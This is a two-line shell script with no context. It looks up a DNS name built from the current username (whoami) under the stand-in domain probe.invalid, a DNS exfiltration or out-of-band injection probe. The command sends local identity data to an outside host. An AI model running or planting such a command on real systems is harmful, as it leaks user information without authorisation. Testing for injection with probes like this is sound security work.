#!/bin/sh
nslookup "$(whoami | tr -d '\n')".probe.invalid
